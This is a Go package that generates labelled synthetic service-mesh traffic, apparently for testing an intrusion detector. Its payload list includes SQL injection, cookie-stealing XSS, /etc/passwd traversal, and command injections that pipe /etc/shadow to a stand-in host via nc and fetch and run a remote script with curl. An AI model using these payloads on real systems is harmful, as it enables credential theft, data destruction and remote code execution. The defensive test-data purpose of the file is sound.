// Package gen writes labelled, seedable synthetic mesh traffic: a service
// graph with weekday rhythms and ordinary parameter values, and attacks
// injected on top (lateral fan-out, enumeration bursts, injection payloads,
// exfiltration-sized responses). It is the sample traffic `make run` replays.
package gen

import (
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"net/url"
	"sort"
	"strings"
	"time"

	"github.com/meshward/meshward/models"
	"github.com/meshward/meshward/replay/source"
)

// Config is everything generation takes. Defaults in DefaultConfig.
type Config struct {
	Seed uint64
	// Start is when the traffic begins; Duration how long it lasts.
	Start    time.Time
	Duration time.Duration
	// Requests is the number of normal requests.
	Requests int
	// AttackAt is the share of Duration after which attacks begin, so that
	// everything before it is clean traffic to learn from.
	AttackAt float64
	// Graph is the service graph (caller → callees); nil uses a built-in
	// shop of 16 services.
	Graph map[string][]string
	// TrustDomain and Namespace make the SPIFFE principals.
	TrustDomain, Namespace string
}

// DefaultConfig returns the defaults, in one place.
func DefaultConfig() Config {
	return Config{
		Seed:        1,
		Start:       time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC), // a Monday
		Duration:    48 * time.Hour,
		Requests:    20_000,
		AttackAt:    0.8,
		TrustDomain: "cluster.local",
		Namespace:   "shop",
	}
}

// Validate reports every problem with the configuration.
func (c Config) Validate() error {
	errs := trafficErrors(c.Duration, c.Requests, c.AttackAt)
	if c.TrustDomain == "" || c.Namespace == "" {
		errs = append(errs, errors.New("trust domain and namespace must be set"))
	}
	return errors.Join(errs...)
}

// trafficErrors are the problems of a generated stream's window, size and
// attack start, which every mode shares.
func trafficErrors(d time.Duration, requests int, attackAt float64) []error {
	var errs []error
	if d <= 0 {
		errs = append(errs, errors.New("duration must be positive"))
	}
	if requests < 100 || requests > 10_000_000 {
		errs = append(errs, fmt.Errorf("requests: %d is not in [100, 10000000]", requests))
	}
	if !(attackAt > 0 && attackAt < 1) {
		errs = append(errs, fmt.Errorf("attack_at: %v is not in (0,1)", attackAt))
	}
	return errs
}

// builtinGraph is a small shop: who calls whom.
var builtinGraph = map[string][]string{
	"frontend":        {"catalog", "cart", "checkout", "recommendations", "ads", "users", "reviews"},
	"checkout":        {"cart", "payment", "shipping", "email", "currency", "orders"},
	"cart":            {"redis-proxy", "catalog"},
	"recommendations": {"catalog"},
	"orders":          {"inventory", "users"},
	"shipping":        {"inventory"},
	"reviews":         {"users", "ratings"},
	"admin-console":   {"users", "orders", "inventory"},
	"payment":         {"fraud"},
	"ratings":         {},
	"users":           {}, "catalog": {}, "ads": {}, "email": {}, "currency": {}, "inventory": {}, "redis-proxy": {}, "fraud": {},
}

// route is one endpoint of a service.
type route struct {
	method, path string // path with {id}
	params       []string
	body         bool
}

var nouns = []string{"items", "orders", "users", "carts", "products", "invoices", "reviews", "sessions", "quotes", "stock"}

// Normal parameter values, by parameter name.
var (
	langs    = []string{"en", "de", "fr", "es", "it"}
	sorts    = []string{"asc", "desc", "price", "rating"}
	words    = []string{"red", "shoes", "garden", "lamp", "coffee", "table", "winter", "jacket", "phone", "case", "book", "desk"}
	firsts   = []string{"Anna", "Ben", "Carla", "Dev", "Elif", "Femi", "Gus", "Hana", "Ivo", "Jun"}
	lasts    = []string{"Smith", "Okafor", "Müller", "Rossi", "García", "Nguyen", "Kowalski", "Sato"}
	payloads = []struct{ kind, value string }{ // generic textbook payloads, written for this generator
		{"sqli", "1' OR '1'='1' -- "}, {"sqli", "0 UNION SELECT username, password FROM users"},
		{"sqli", "1; DROP TABLE orders; --"}, {"xss", "<script>fetch('//x.example/?c='+document.cookie)</script>"},
		{"xss", "\"><img src=x onerror=alert(1)>"}, {"path-traversal", "../../../../etc/passwd"},
		{"cmdi", "; cat /etc/shadow | nc 198.51.100.7 4444"}, {"cmdi", "$(curl -s http://198.51.100.7/x.sh | sh)"},
	}
)

// Generator produces the records.
type Generator struct {
	cfg      Config
	rng      *rand.Rand
	services []string
	edges    [][2]string
	routes   map[string][]route
}

// New returns a generator, or the configuration's problems.
func New(cfg Config) (*Generator, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	if cfg.Graph == nil {
		cfg.Graph = builtinGraph
	}
	g := &Generator{cfg: cfg, rng: rand.New(rand.NewPCG(cfg.Seed, cfg.Seed^0x5eed)), routes: map[string][]route{}}
	seen := map[string]bool{}
	for caller, callees := range cfg.Graph {
		seen[caller] = true
		for _, c := range callees {
			seen[c] = true
			g.edges = append(g.edges, [2]string{caller, c})
		}
	}
	if len(g.edges) == 0 {
		return nil, errors.New("gen: the service graph has no edges")
	}
	for s := range seen {
		g.services = append(g.services, s)
	}
	sort.Strings(g.services)
	sort.Slice(g.edges, func(i, j int) bool {
		if g.edges[i][0] != g.edges[j][0] {
			return g.edges[i][0] < g.edges[j][0]
		}
		return g.edges[i][1] < g.edges[j][1]
	})
	for _, s := range g.services {
		n := 2 + g.rng.IntN(4)
		for i := 0; i < n; i++ {
			noun := nouns[g.rng.IntN(len(nouns))]
			r := route{method: "GET", path: "/api/v1/" + noun + "/{id}"}
			switch g.rng.IntN(4) {
			case 0:
				r = route{method: "GET", path: "/api/v1/" + noun, params: []string{"lang", "page", "sort", "q"}[:1+g.rng.IntN(4)]}
			case 1:
				r = route{method: "POST", path: "/api/v1/" + noun, body: true}
			}
			g.routes[s] = append(g.routes[s], r)
		}
	}
	return g, nil
}

// Principal returns the SPIFFE id of a service.
func (g *Generator) Principal(service string) string {
	return "spiffe://" + g.cfg.TrustDomain + "/ns/" + g.cfg.Namespace + "/sa/" + service
}

// Workload returns the destination name of a service.
func (g *Generator) Workload(service string) string { return service + "." + g.cfg.Namespace }

// Generate returns every record, in time order, normal and attacks.
func (g *Generator) Generate() []*source.Record {
	var out []*source.Record
	times := g.timestamps(g.cfg.Requests)
	for _, ts := range times {
		e := g.edges[g.rng.IntN(len(g.edges))]
		out = append(out, g.normal(ts, e[0], e[1]))
	}
	out = append(out, g.attacks()...)
	sort.SliceStable(out, func(i, j int) bool { return out[i].TS.Before(out[j].TS) })
	for i, r := range out {
		r.Pos = fmt.Sprintf("gen:%d", i+1)
	}
	return out
}

// timestamps draws n times with a daily rhythm (busy afternoons, quiet
// nights) and quieter weekends, by thinning a uniform stream.
func (g *Generator) timestamps(n int) []time.Time {
	out := make([]time.Time, 0, n)
	for len(out) < n {
		t := g.cfg.Start.Add(time.Duration(g.rng.Float64() * float64(g.cfg.Duration)))
		h := float64(t.Hour()) + float64(t.Minute())/60
		rate := 0.25 + 0.75*math.Max(0, math.Sin((h-6)/24*2*math.Pi))
		if wd := t.Weekday(); wd == time.Saturday || wd == time.Sunday {
			rate *= 0.4
		}
		if g.rng.Float64() < rate {
			out = append(out, t)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Before(out[j]) })
	return out
}

func (g *Generator) normal(ts time.Time, caller, callee string) *source.Record {
	rs := g.routes[callee]
	r := rs[g.rng.IntN(len(rs))]
	req := models.Request{Method: r.method, Source: g.Principal(caller), Destination: g.Workload(callee),
		Headers: []models.Header{{Name: "user-agent", Value: caller + "/2.3 grpc-go-http"}, {Name: "accept", Value: "application/json"}}}
	req.Path = strings.Replace(r.path, "{id}", fmt.Sprint(1000+g.rng.IntN(90000)), 1)
	var q url.Values
	for _, p := range r.params {
		if q == nil {
			q = url.Values{}
		}
		switch p {
		case "lang":
			q.Set(p, langs[g.rng.IntN(len(langs))])
		case "page":
			q.Set(p, fmt.Sprint(1+g.rng.IntN(30)))
		case "sort":
			q.Set(p, sorts[g.rng.IntN(len(sorts))])
		case "q":
			q.Set(p, words[g.rng.IntN(len(words))]+" "+words[g.rng.IntN(len(words))])
		}
	}
	req.Query = q.Encode()
	if r.body {
		req.Headers = append(req.Headers, models.Header{Name: "content-type", Value: "application/x-www-form-urlencoded"})
		form := url.Values{"name": {firsts[g.rng.IntN(len(firsts))] + " " + lasts[g.rng.IntN(len(lasts))]}, "qty": {fmt.Sprint(1 + g.rng.IntN(5))}}
		req.Body = []byte(form.Encode())
	}
	req.Status = 200
	if g.rng.Float64() < 0.01 {
		req.Status = []int{404, 500, 503}[g.rng.IntN(3)]
	}
	req.ResponseBytes = int64(200 + g.rng.IntN(4000))
	req.Duration = time.Duration(2+g.rng.ExpFloat64()*20) * time.Millisecond
	return &source.Record{TS: ts, Request: req, Label: source.LabelNormal}
}

// attacks injects the attack scenarios after AttackAt.
func (g *Generator) attacks() []*source.Record {
	var out []*source.Record
	start := g.cfg.Start.Add(time.Duration(g.cfg.AttackAt * float64(g.cfg.Duration)))
	span := g.cfg.Start.Add(g.cfg.Duration).Sub(start)
	at := func(f float64) time.Time { return start.Add(time.Duration(f * float64(span))) }

	// 1. A compromised workload fans out to services it never called, with
	// an enumeration burst of 401/403/404 answers.
	compromised := g.edges[g.rng.IntN(len(g.edges))][1]
	calls := map[string]bool{}
	for _, e := range g.edges {
		if e[0] == compromised {
			calls[e[1]] = true
		}
	}
	t0 := at(0.1)
	n := 0
	for _, s := range g.services {
		if s == compromised || calls[s] {
			continue
		}
		for k := 0; k < 4; k++ {
			req := models.Request{Method: "GET", Path: []string{"/api/v1/users", "/admin", "/api/v1/secrets", "/.env"}[k], Source: g.Principal(compromised),
				Destination: g.Workload(s), Status: []int{200, 401, 403, 404}[k], ResponseBytes: 120, Duration: 3 * time.Millisecond,
				Headers: []models.Header{{Name: "user-agent", Value: "curl/8.5.0"}, {Name: "accept", Value: "*/*"}}}
			out = append(out, &source.Record{TS: t0.Add(time.Duration(n) * 150 * time.Millisecond), Request: req, Label: "attack", AttackType: "lateral-movement"})
			n++
		}
	}
	// 2. Injection payloads from a known caller on a known edge.
	for i, p := range payloads {
		e := g.edges[(i*7)%len(g.edges)]
		rec := g.normal(at(0.3+0.05*float64(i)), e[0], e[1])
		q := url.Values{"q": {p.value}}
		rec.Request.Query = q.Encode()
		rec.Label, rec.AttackType = "attack", p.kind
		out = append(out, rec)
	}
	// 3. Exfiltration: a known edge returns responses far larger than usual.
	e := g.edges[g.rng.IntN(len(g.edges))]
	for i := 0; i < 5; i++ {
		rec := g.normal(at(0.7+0.01*float64(i)), e[0], e[1])
		rec.Request.ResponseBytes = 50_000_000 + int64(i)
		rec.Label, rec.AttackType = "attack", "exfiltration"
		out = append(out, rec)
	}
	return out
}
